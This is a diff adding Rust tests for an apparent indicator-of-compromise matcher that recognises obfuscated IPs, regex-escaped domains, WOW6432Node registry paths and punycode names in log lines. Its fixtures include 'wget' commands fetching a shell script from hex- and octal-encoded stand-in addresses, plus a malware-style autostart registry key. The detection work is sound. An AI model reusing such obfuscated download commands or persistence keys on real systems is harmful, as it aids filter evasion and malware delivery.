@@ -429,3 +429,153 @@ fn an_address_with_its_port_behind_a_dot_is_seen_in_packet_dumps_only() {
     see("version 203.0.113.9.443: new", &[]);
     see("oid 1.203.0.113.9: x", &[]);
 }
+
+#[test]
+fn addresses_are_seen_as_browsers_read_the_hosts_of_urls() {
+    let see = |log: &str, want: &[Relation]| check(K::Ipv4, "198.51.100.23", log, want);
+    see("GET http://0xC6336417/x", &[Decoded]);
+    see("GET http://3325256727/", &[Decoded]);
+    see("u=http://3325256727", &[Decoded]);
+    see("http://3325256727:8080/", &[Decoded]);
+    see("{\"url\":\"http:\\/\\/3325256727\\/a\"}", &[Decoded]);
+    see("{\"url\": \"https://0306.063.0144.027/a\"}", &[Decoded]);
+    see("http://0xc6.0x33.0x64.0x17/", &[Decoded]);
+    see("http://198.51.25623/", &[Decoded]);
+    see("http://198.0051.100.023/ ", &[]);
+    see("http://198.0063.100.027/ ", &[Decoded]);
+    see("hxxp://0xC6336417/", &[Decoded]);
+    see("http://me@0306.063.0144.027/", &[Decoded]);
+    see("u=http%3A%2F%2F3325256727%2F", &[Decoded]);
+    // Numbers that are no hosts of URLs, and hosts that are no numbers.
+    see(
+        "id=3325256727 0xC6336417 0306.063.0144.027 198.51.25623",
+        &[],
+    );
+    see("/files/0306.063.0144.027/x /3325256727/", &[]);
+    see("urn://3325256727/ c://3325256727 //3325256727/", &[]);
+    see("http://3325256727.example/", &[]);
+    see("http://3325256727@www.example/", &[]);
+    see("http://33252567271/ http://0xC63364171/", &[]);
+    see(
+        "http://x3325256727/ http://3325256727x/ http://3325256727-a/",
+        &[],
+    );
+    see("{\"n\": \"3325256727\", \"t\":\"3325256727\"}", &[]);
+    check(
+        K::Cidr,
+        "198.51.100.0/24",
+        "http://3325256727/",
+        &[InNetwork],
+    );
+    let url = "http://198.51.100.23/a.sh";
+    check(K::Url, url, "wget http://0xC6336417/a.sh", &[Embedded]);
+    check(
+        K::Url,
+        url,
+        "wget http://0306.063.0144.027/a.sh",
+        &[Embedded],
+    );
+    check(K::Url, url, "wget http://3325256727/a.shx", &[]);
+    check(
+        K::Url,
+        "http://0xC6336417/a.sh",
+        "GET http://198.51.100.23/a.sh",
+        &[Exact],
+    );
+}
+
+#[test]
+fn escaped_dots_of_expressions_are_dots() {
+    let see = |log: &str, want: &[Relation]| check(K::Domain, "evil.example", log, want);
+    see("host =~ /evil\\.example/", &[Decoded]);
+    see("^https?:\\/\\/www\\.evil\\.example\\/", &[Decoded]);
+    see("(^|\\.)evil\\.example$", &[Decoded]);
+    see("{\"q\":\"evil\\\\.example\"}", &[Decoded]);
+    see("\\bevil\\.example\\b", &[]);
+    see("evil\\.example\\b", &[Decoded]);
+    see("notevil\\.example evil\\.examples", &[]);
+    see("my-evil\\.example", &[]);
+    see("C:\\evil\\.example", &[]);
+    see("C:evil\\.example", &[]);
+    see("a\\evil\\.example", &[]);
+    see("evil\\.example\\config", &[]);
+    see("evil\\\\\\.example", &[]);
+    see("evil\\.example.org", &[]);
+    see("evil\\.example\\.org", &[]);
+    check(K::FileName, "evil.exe", "C:\\evil\\.exe", &[]);
+}
+
+#[test]
+fn registry_keys_have_a_view_for_programs_of_each_word_size() {
+    let key = "HKLM\\Software\\EvilRat";
+    let see = |log: &str, want: &[Relation]| check(K::RegistryKey, key, log, want);
+    see("HKLM\\SOFTWARE\\WOW6432Node\\EvilRat", &[Exact]);
+    see("HKLM\\SOFTWARE\\WOW6432Node\\EvilRat\\x", &[Embedded]);
+    see(
+        "\\REGISTRY\\MACHINE\\SOFTWARE\\Wow6432Node\\EvilRat",
+        &[Exact],
+    );
+    see("HKLM\\SOFTWARE\\EvilRat", &[Exact]);
+    see("HKLM\\SOFTWARE\\WOW6432Node\\EvilRat2", &[]);
+    see("HKLM\\SOFTWARE\\WOW6432Node\\x\\EvilRat", &[]);
+    see("HKCU\\SOFTWARE\\WOW6432Node\\EvilRat", &[]);
+    see("HKLM\\SYSTEM\\WOW6432Node\\EvilRat", &[]);
+    let key = "HKCU\\Software\\WOW6432Node\\EvilRat";
+    check(K::RegistryKey, key, "HKCU\\Software\\EvilRat", &[Exact]);
+    check(
+        K::RegistryKey,
+        "HKLM\\SYSTEM\\CurrentControlSet\\Services\\EvilRat",
+        "HKLM\\SYSTEM\\WOW6432Node\\CurrentControlSet\\Services\\EvilRat",
+        &[],
+    );
+    let run = "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
+    check(
+        K::RegistryKey,
+        run,
+        "HKLM\\Software\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive",
+        &[],
+    );
+}
+
+#[test]
+fn names_of_windows_that_stand_for_ipv6_addresses() {
+    let see = |log: &str, want: &[Relation]| check(K::Ipv6, "2001:db8::1", log, want);
+    see("\\\\2001-db8--1.ipv6-literal.net\\share", &[Decoded]);
+    see("\\\\\\\\2001-DB8--1.IPv6-Literal.NET\\\\share", &[Decoded]);
+    see("host 2001-0db8-0-0-0-0-0-1.ipv6-literal.net.", &[Decoded]);
+    see("2001-db8--1s4.ipv6-literal.net", &[Decoded]);
+    see("2001-db8--1.ipv6-literal.net.example", &[]);
+    see("www.2001-db8--1.ipv6-literal.net", &[]);
+    see("2001-db8--1.my-ipv6-literal.net", &[]);
+    see("2001-db8--11.ipv6-literal.net 2001-db8--1.net", &[]);
+    check(
+        K::Cidr,
+        "2001:db8::/32",
+        "2001-db8--77.ipv6-literal.net",
+        &[InNetwork],
+    );
+}
+
+#[test]
+fn international_names_are_seen_in_any_column() {
+    let see = |log: &str, want: &[Relation]| check(K::Domain, "日本25.jp", log, want);
+    let ascii = value(K::Domain, "日本25.jp").value().to_owned();
+    assert!(ascii.starts_with("xn--"), "{ascii}");
+    see(&format!("a,{ascii},b"), &[Exact]);
+    for log in [
+        "日本25.jp",
+        "a,日本25.jp,b",
+        "a\t日本25.jp\tA",
+        "\"日本25.jp\"",
+        "{\"q\":\"日本25.jp\"}",
+        "{\"q\":\"\\u65e5\\u672c25.jp\"}",
+        "query: www.日本25.jp IN A",
+        "日本25.jp.",
+        "日本２５．ＪＰ",
+        "http://日本25.jp/x",
+        "日本25。jp",
+    ] {
+        see(log, &[Decoded]);
+    }
+    see("日本225.jp 日本25.jpn 新日本25.jp 日本25.jp.example", &[]);
+}
